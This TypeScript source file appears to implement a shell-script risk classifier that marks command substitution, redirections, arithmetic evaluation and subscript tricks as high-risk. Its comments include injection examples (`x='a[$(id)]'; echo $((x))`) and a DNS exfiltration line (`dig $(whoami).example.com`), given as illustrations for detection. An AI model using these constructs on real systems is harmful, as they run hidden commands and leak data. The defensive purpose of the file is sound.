// The deterministic risk floor for one script (DESIGN §2, the reference's findDeterministicHighRisk):
// an unterminated quote or construct, text that does not parse, command or process substitution, a
// redirection other than to /dev/null or a descriptor duplication, a command word built from an
// expansion, and every place bash evaluates text the script does not show — arithmetic on a
// variable (`$((x))`, `((x))`, `let`, `[[ x -eq y ]]`, `${s:x}`), an array subscript that is not a
// number (`${a[i]}`, `printf -v 'a[$(id)]'`), prompt expansion (`${x@P}`) and indirect expansion
// (`${!x}`) — make the script `high-risk`, whatever was declared or any later judgement says. In
// arithmetic bash reads a variable's value as an expression and expands a subscript in it, command
// substitution included: `x='a[$(id)]'; echo $((x))` runs id. The floor never lowers a level:
// `dig $(whoami).example.com` reads as harmless to a classifier and exfiltrates via DNS. What
// commands inside the script run (`eval`, `sh -c`, `find -exec`) is walk.ts's; argv-floor.ts
// applies this floor to every script the walk reaches.
//
// Pure: it reads the plain data of one parse (syntax.ts), handed in by the caller.
import type { EvaluatedText, ShellRedirect, ShellScan, ShellWord } from "./syntax.ts";

/** The risk levels, lowest first (the same union as policy/tools.ts's `Risk`; the reader is a leaf). */
export type Risk = "read-only" | "low-risk" | "high-risk" | "unknown";

export type ShellRiskFloor = {
  /** The declared level, raised to `high-risk` when any reason was found; never lower. */
  readonly level: Risk;
  /** Why the floor applies; empty when it does not. */
  readonly reasons: readonly string[];
};

/** Longer scripts are not parsed at all: they are high-risk by length. */
export const maxScriptChars = 64 * 1024;

const riskOrder: readonly Risk[] = ["read-only", "low-risk", "high-risk", "unknown"];

/** The higher of two levels (`unknown` is above `high-risk`). */
export function raiseRisk(a: Risk, b: Risk): Risk {
  return riskOrder.indexOf(a) >= riskOrder.indexOf(b) ? a : b;
}

const fileRedirectOps = new Set([">", ">>", ">|", "&>", "&>>", "<", "<>"]);
const duplicateOps = new Set([">&", "<&"]);

function isHarmlessRedirect(redirect: ShellRedirect): boolean {
  const { op, target } = redirect;
  if (op === ">&-" || op === "<&-") return true; // closing a descriptor
  if (target === undefined || target.expansions.length > 0 || target.text === "") return false;
  if (fileRedirectOps.has(op)) return target.text === "/dev/null";
  if (duplicateOps.has(op)) return /^([0-9]+|-)$/.test(target.text);
  return false;
}

function describeRedirect(redirect: ShellRedirect): string {
  const target = redirect.target?.text ?? "";
  return `${redirect.fd ?? ""}${redirect.op}${target.length > 60 ? `${target.slice(0, 60)}…` : target}`;
}

/** The floor for one parsed script against the `declared` level. */
export function floorShellScan(scan: ShellScan, declared: Risk): ShellRiskFloor {
  const reasons = new Set<string>(scan.problems);
  if (scan.expansions.has("command")) reasons.add("command substitution");
  if (scan.expansions.has("process")) reasons.add("process substitution");
  for (const command of scan.commands) {
    for (const redirect of command.redirects) {
      if (!isHarmlessRedirect(redirect)) reasons.add(`redirection ${describeRedirect(redirect)}`);
    }
    const first = command.words[0];
    if (command.keyword === undefined && first !== undefined && first.expansions.length > 0) {
      reasons.add(`command word built from an expansion (${first.text.slice(0, 60)})`);
    }
    for (const reason of evaluatedNames(command.words.map((w) => w))) reasons.add(reason);
  }
  for (const site of scan.evaluated) {
    const reason = describeEvaluated(site.kind, site.text);
    if (reason !== undefined) reasons.add(reason);
  }
  return {
    level: reasons.size > 0 ? raiseRisk(declared, "high-risk") : declared,
    reasons: [...reasons],
  };
}

/** The floor for text too long to read. */
export function floorTooLong(declared: Risk): ShellRiskFloor {
  return {
    level: raiseRisk(declared, "high-risk"),
    reasons: [`longer than ${maxScriptChars} characters, too long to analyse`],
  };
}

function excerpt(text: string): string {
  const line = text.replace(/\s+/g, " ");
  return line.length > 40 ? `${line.slice(0, 40)}…` : line;
}

/** A name, an expansion or a substitution in evaluated text: code the text does not show. */
const hasName = /[A-Za-z_$`]/;

function describeEvaluated(kind: EvaluatedText["kind"], text: string): string | undefined {
  switch (kind) {
    case "arithmetic": {
      const inner = text.replace(/^\$?\(\(|\)\)$|^\$\[|\]$/g, "");
      return hasName.test(inner)
        ? `arithmetic on a variable (${excerpt(text)}): bash evaluates its value, and a subscript in it, as code`
        : undefined;
    }
    case "subscript":
      return /^[0-9@*\s]*$/.test(text)
        ? undefined
        : `an array subscript that is not a number (${excerpt(text)}): bash evaluates it as code`;
    case "prompt":
      return `prompt expansion (${excerpt(text)}) runs substitutions in the variable's value`;
    case "indirect":
      return `indirect expansion (${excerpt(text)}): the variable's value names what is expanded, subscript included`;
  }
}

/** Builtins that take variable names, where a name with a subscript is evaluated as code. */
const nameTakers = new Set([
  "printf",
  "read",
  "mapfile",
  "readarray",
  "unset",
  "wait",
  "getopts",
  "declare",
  "typeset",
  "local",
  "export",
  "readonly",
  "test",
  "[",
  "let",
]);
const subscripted = /[A-Za-z_][A-Za-z0-9_]*\[([^\]]*)\]/;

/** `let`, `declare -i`/`-n`, and a name with a subscript given to a builtin that takes names. */
function evaluatedNames(words: readonly ShellWord[]): string[] {
  const name = words[0]?.text;
  if (name === undefined || !nameTakers.has(name)) return [];
  const args = words.slice(1);
  const reasons: string[] = [];
  if (name === "let" && args.some((a) => hasName.test(a.text))) {
    reasons.push(
      "let evaluates its arguments as arithmetic: a variable's value, and a subscript in it, is code",
    );
  }
  const options = args.filter((a) => a.text.startsWith("-")).map((a) => a.text);
  if (
    ["declare", "typeset", "local"].includes(name) &&
    options.some((o) => /^-[A-Za-z]*[in]/.test(o)) &&
    args.some((a) => /=.*[A-Za-z_$`[]/.test(a.text))
  ) {
    reasons.push(`${name} -i/-n evaluates the assigned value as arithmetic or a name: code`);
  }
  // Where names are: printf's -v value; test's -v operand; every operand of the others.
  const after = (flag: string) => args.filter((_, i) => args[i - 1]?.text === flag);
  const operands = args.filter((a) => !a.text.startsWith("-"));
  const names =
    name === "printf" || name === "test" || name === "["
      ? after("-v")
      : name === "wait"
        ? after("-p")
        : name === "getopts"
          ? operands.slice(1)
          : operands;
  const builtNames = new Set(["printf", "read", "unset", "mapfile", "readarray", "wait"]);
  for (const word of names) {
    const base = word.text.split("=")[0] ?? "";
    const match = subscripted.exec(base);
    if (match !== null && !/^[0-9@*]*$/.test(match[1] ?? "")) {
      reasons.push(
        `${name} is given a name with a subscript (${excerpt(base)}): bash evaluates it as code`,
      );
    } else if (word.expansions.includes("parameter") && builtNames.has(name)) {
      reasons.push(
        `${name} is given a variable name built from an expansion (${excerpt(word.text)})`,
      );
    }
  }
  return reasons;
}
